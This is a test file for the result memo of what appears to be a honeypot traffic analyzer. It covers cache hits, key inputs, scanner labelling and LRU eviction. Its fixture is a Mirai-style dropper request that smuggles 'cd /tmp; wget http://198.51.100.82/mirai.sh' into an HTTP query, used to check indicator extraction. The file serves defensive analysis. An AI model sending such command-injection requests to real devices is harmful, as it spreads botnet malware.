// The analysis memo: a remembered result is exactly what a fresh analysis gives, every input
// the analysis reads changes the key, and the memo stays within its bound.

import { describe, expect, it } from 'vitest';
import type { MitsuEvent } from '../events/event.js';
import { makeEvent } from '../store/fixtures.js';
import { Analyzer, DEFAULT_ANALYZER_SPEC } from './analyzer.js';
import { AnalysisMemo, MEMO_MAX_ENTRIES, memoKey } from './memo.js';

const DROPPER = Buffer.from('GET /shell?cd+/tmp;wget+http://198.51.100.82/mirai.sh HTTP/1.1\r\n' +
  'Host: 203.0.113.10\r\n\r\n');

function dropper(over: Partial<MitsuEvent> = {}): MitsuEvent {
  return makeEvent(0, { protocol: 'http', dst_ip: '203.0.113.10', fields: {
    method: 'GET', path: '/shell', query: 'cd+/tmp;wget+http://198.51.100.82/mirai.sh',
    host: '203.0.113.10', headers: [['host', '203.0.113.10']] }, ...over }, DROPPER);
}

describe('analysis memo', () => {
  it('gives a repeated payload the analysis a fresh analyzer gives it', () => {
    const remembering = Analyzer.open({ ...DEFAULT_ANALYZER_SPEC, enrich: false });
    const fresh = Analyzer.open({ ...DEFAULT_ANALYZER_SPEC, enrich: false, memo: false });
    const first = remembering.analyze(dropper({ src_ip: '192.0.2.1' }));
    const again = remembering.analyze(dropper({ src_ip: '192.0.2.2' }));
    expect(remembering.memoStats).toEqual({ hits: 1, misses: 1 });
    expect(again).toStrictEqual(fresh.analyze(dropper({ src_ip: '192.0.2.2' })));
    expect(first.iocs.urls).toContain('http://198.51.100.82/mirai.sh');
    expect(fresh.memoStats).toEqual({ hits: 0, misses: 0 });
  });

  it('labels a research scanner by the reverse-DNS name an imported log gave', () => {
    const analyzer = Analyzer.open({ ...DEFAULT_ANALYZER_SPEC, enrich: false });
    const fields = { src_ptr: 'census1.shodan.io' };
    expect(analyzer.analyze(dropper({ src_ip: '8.8.4.4', fields })).scanner).toMatch(/shodan/i);
    expect(analyzer.analyze(dropper({ src_ip: '8.8.4.4' })).scanner).toBeNull();
  });

  it('keys on every input the analysis reads, and not on source or time', () => {
    const base = memoKey(dropper());
    expect(memoKey(dropper({ src_ip: '198.51.100.1', start: '2026-01-01T00:00:00.000Z' })))
      .toBe(base);
    const changes: Partial<MitsuEvent>[] = [
      { protocol: 'unknown' }, { transport: 'udp' }, { dst_port: 8080 },
      { dst_ip: '203.0.113.11' }, { commands: ['id'] },
      { credentials: [{ username: 'root', password: 'x' }] },
      { fields: { method: 'POST' } }, { payload_sha256: 'f'.repeat(64) },
    ];
    for (const change of changes) expect(memoKey(dropper(change)), JSON.stringify(change))
      .not.toBe(base);
  });

  it('forgets the least recently used entry past its bound', () => {
    const memo = new AnalysisMemo();
    const value = { tags: [], intent: null, iocs: dropper().iocs, template: null };
    for (let i = 0; i <= MEMO_MAX_ENTRIES; i += 1) {
      memo.set(`k${i}`, value);
      if (i === 10) memo.get('k0');
    }
    expect(memo.get('k0')).toBe(value);
    expect(memo.get('k1')).toBeUndefined();
    expect(memo.get(`k${MEMO_MAX_ENTRIES}`)).toBe(value);
  });
});
